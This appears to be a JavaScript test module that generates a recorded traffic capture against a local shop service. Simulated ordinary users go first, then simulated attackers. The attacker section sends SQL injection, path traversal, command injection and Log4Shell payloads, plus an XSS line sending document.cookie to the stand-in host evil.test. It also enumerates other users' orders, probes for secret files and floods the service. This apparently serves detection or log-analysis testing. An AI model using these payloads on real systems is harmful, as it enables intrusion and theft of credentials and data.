// Ordinary users, then attackers, over real sockets; every request and its answer is written down as it happened.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { gunzipSync } from 'node:zlib';
import { bearerOf, HOST, ordersOfUser, USERS } from './service.mjs';

/** Deterministic numbers from 0 to below `below`. */
function seeded(seed) {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 canary-user-agent';

/** One client address with one keep-alive connection. `log` gets {client, method, target, status, requestId}. */
export function createClient(port, client, log, headers = {}) {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const call = (method, target, { body, type, ...extra } = {}) =>
    new Promise((resolve, reject) => {
      const text = body === undefined || typeof body === 'string' ? body : JSON.stringify(body);
      const sent = request(
        {
          host: '127.0.0.1', port, localAddress: client, agent, method, path: target,
          headers: {
            host: HOST, 'user-agent': AGENT, accept: 'application/json', ...headers, ...extra.headers,
            ...(text === undefined ? {} : { 'content-type': type ?? 'application/json', 'content-length': Buffer.byteLength(text) }),
          },
        },
        async (response) => {
          const chunks = [];
          for await (const chunk of response) chunks.push(chunk);
          const bytes = Buffer.concat(chunks);
          const answer = (response.headers['content-encoding'] === 'gzip' ? gunzipSync(bytes) : bytes).toString();
          log({ client, method, target, status: response.statusCode, requestId: /"requestId":"([^"]+)"/.exec(answer)?.[1] ?? null });
          resolve(answer);
        },
      );
      sent.on('error', reject);
      sent.end(text);
    });
  return { call, close: () => agent.destroy() };
}

/** Several requests in one write, before the first answer. */
async function pipelined(port, client, targets, log) {
  const socket = connect({ host: '127.0.0.1', port, localAddress: client });
  await new Promise((resolve) => socket.once('connect', resolve));
  socket.write(targets.map((target) => `GET ${target} HTTP/1.1\r\nHost: ${HOST}\r\nUser-Agent: ${AGENT}\r\nAuthorization: Bearer ${bearerOf(1)}\r\n\r\n`).join(''));
  let text = '';
  await new Promise((resolve) => {
    socket.on('data', (chunk) => {
      text += chunk;
      if (text.split('HTTP/1.1 ').length > targets.length && text.endsWith('}')) resolve();
    });
  });
  socket.end();
  const answers = text.split('HTTP/1.1 ').slice(1);
  for (const [i, target] of targets.entries()) {
    log({ client, method: 'GET', target, status: Number(answers[i].slice(0, 3)), requestId: /"requestId":"([^"]+)"/.exec(answers[i])?.[1] ?? null });
  }
}

const address = (n) => `127.0.0.${n}`;

async function oneUser(port, user, round, random, log) {
  const me = createClient(port, address(10 + user), log, { authorization: `Bearer ${bearerOf(user)}`, cookie: 'theme=dark; consent=yes' });
  const guest = createClient(port, address(10 + user), log);
  if (round === 0) await guest.call('POST', '/api/v1/login', { body: { account: user, password: 'canary-passphrase-7731' } });
  guest.close();
  await me.call('GET', `/api/v1/products?page=${1 + random(3)}`);
  await me.call('GET', `/api/v1/products/${100 + random(8)}`);
  const words = ["O'Brien", 'walnut desk', 'rock & roll; ls', 'select a date from the list', 'canary-search-words', '50% off', 'desk -- oak'];
  await me.call('GET', `/api/v1/search?q=${encodeURIComponent(words[random(words.length)])}&page=1`);
  await me.call('GET', `/api/v1/users/${user}`);
  await me.call('GET', `/api/v1/users/${user}/orders`);
  const own = ordersOfUser(user);
  await me.call('GET', `/api/v1/orders/${own[random(own.length)]}`);
  await me.call('GET', `/api/v1/orders/${own[random(own.length)]}`);
  if (round === 1) await me.call('PATCH', `/api/v1/users/${user}`, { body: { name: 'Zebulonia Quillfeather', phone: '+49 170 5550199' } });
  if (round === 2) await me.call('POST', '/api/v1/orders', { body: { userId: user, items: [{ productId: 103, quantity: 1 }], note: "leave at O'Brien's; ring twice" } });
  if (round === 3 && user % 3 === 0) await me.call('POST', '/api/v1/contact', { type: 'application/x-www-form-urlencoded', body: 'email=canary.quillfeather%40mail.shop.test&message=It%27s+5+or+6+days+late' });
  if (round === 3 && user % 3 === 1) await me.call('POST', '/graphql', { body: { query: 'query Mine($id: Int!) { order(id: $id) { id total } note(text: "canary-graphql-literal") }', variables: { id: own[0] } } });
  if (round === 3 && user % 3 === 2) {
    await me.call('POST', '/soap/orders', {
      type: 'text/xml; charset=utf-8', headers: { soapaction: '"http://shop.test/GetOrder"' },
      body: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><orderId>${own[0]}</orderId><note>canary-soap-note</note></GetOrder></soap:Body></soap:Envelope>`,
    });
  }
  if (round === 3 && user === 5) await me.call('DELETE', `/api/v1/orders/${own[0]}`);
  if (round === 2 && user === 6) await me.call('GET', '/api/v1/orders/9999');
  me.close();
}

/** `pause(seconds)`: that long passes in the capture, though not while it is made. */
export async function ordinaryUsers(port, log, pause) {
  const random = seeded(7);
  for (let round = 0; round < 4; round++) {
    for (let user = 1; user <= USERS; user += 3) {
      await Promise.all([0, 1, 2].map((i) => oneUser(port, user + i, round, random, log)));
      await pause(10 + random(10));
    }
  }
  await pipelined(port, address(11), ['/health', '/api/v1/products/101', '/api/v1/orders/7000', '/health'], log);
}

export async function attackers(port, log, pause) {
  await pause(5);
  const probe = createClient(port, address(201), log);
  for (const payload of ["desk' OR 1=1 -- ", "desk' UNION SELECT id, password FROM users -- ", "1' AND SLEEP(5) -- ", '<script>fetch("//evil.test/"+document.cookie)</script>', '../../../../etc/passwd', '8.8.8.8; cat /etc/passwd', '${jndi:ldap://evil.test/a}']) {
    await probe.call('GET', `/api/v1/search?q=${encodeURIComponent(payload)}&page=1`);
    await pause(2);
  }
  probe.close();

  const thief = createClient(port, address(202), log, { authorization: `Bearer ${bearerOf(2)}` });
  for (let order = 7000; order < 7060; order++) {
    await thief.call('GET', `/api/v1/orders/${order}`);
    if (order % 10 === 9) await pause(6);
  }
  thief.close();

  const finder = createClient(port, address(203), log);
  for (const path of ['/.env', '/wp-login.php', '/api/v1/debug', '/backup.sql']) await finder.call('GET', path);
  for (let i = 0; i < 4; i++) await finder.call('GET', '/api/v1/admin/users');
  finder.close();

  await pause(5);
  const burst = createClient(port, address(204), log);
  for (let i = 0; i < 180; i++) await burst.call('GET', `/api/v1/products/${100 + (i % 8)}`);
  burst.close();
}
